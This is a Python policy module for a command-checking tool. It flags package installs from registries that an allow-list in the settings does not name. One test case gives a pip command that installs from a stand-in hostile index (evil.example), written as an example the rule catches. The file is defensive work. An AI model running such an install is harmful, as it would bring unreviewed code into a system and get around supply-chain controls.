"""Packages from registries that the settings do not list, where only listed ones are allowed.

Why
    A registry of one's own that passes on only what was looked at helps only if nothing goes around it.
Instead
    Name the listed registry on the command line, or list the manager's own one.
Blind spots
    A registry that a configuration file of the manager names.
"""

from enactd.policy import Ask, Context, InstallPackage, Opinions, bash, policy

USUAL = {
    "pip": "pypi.org", "pip3": "pypi.org", "pipx": "pypi.org", "uv": "pypi.org", "uvx": "pypi.org", "poetry": "pypi.org",
    "pdm": "pypi.org", "npm": "registry.npmjs.org", "npx": "registry.npmjs.org", "pnpm": "registry.npmjs.org",
    "yarn": "registry.yarnpkg.com", "bun": "registry.npmjs.org", "bunx": "registry.npmjs.org", "gem": "rubygems.org",
    "bundle": "rubygems.org", "cargo": "crates.io", "composer": "packagist.org", "go": "proxy.golang.org",
    "dotnet": "api.nuget.org", "nuget": "api.nuget.org",
}  # fmt: skip
GIVEN = ("packages registries https://pypi.corp/simple", "packages registries registry.npmjs.org")


@policy(
    watches=InstallPackage,
    severity="high",
    stage="stable",
    since="0.1",
    asks=(
        bash("pip install requests", given=GIVEN),
        bash("uv pip install requests", given=GIVEN),
        bash("pip install --index-url https://pypi.org/simple requests", given=GIVEN),
        bash("pip install --index-url https://evil.example/simple requests", given=GIVEN),
        bash("cargo add serde", given=GIVEN),
    ),
    allows=(
        bash("pip install --index-url https://pypi.corp/simple requests", given=GIVEN),
        bash("npm install --save-dev vitest", given=GIVEN),
        bash("pip install -e .", given=GIVEN),
        "pip install requests",
    ),
    misses=(bash("make install-tools", given=GIVEN),),
)
def check(install: InstallPackage, context: Context) -> Opinions:
    if not context.site.only_listed or install.origin not in ("registry", "lockfile", "unknown", "index"):
        return
    usual = USUAL.get(install.manager.split(" ")[0], "")
    named = any(plain(one) in install.source for one in context.site.registries)
    listed = usual and any(plain(one).split("/")[0] == usual for one in context.site.registries)
    other = "://" in install.source and not named
    if not named and (other or not listed):
        names = ", ".join(install.names[:3]) or "packages"
        yield Ask(f"{names} would not come from a registry that the settings list")


def plain(registry: str) -> str:
    """A registry without scheme and closing slash."""
    return registry.rpartition("://")[2].rstrip("/")
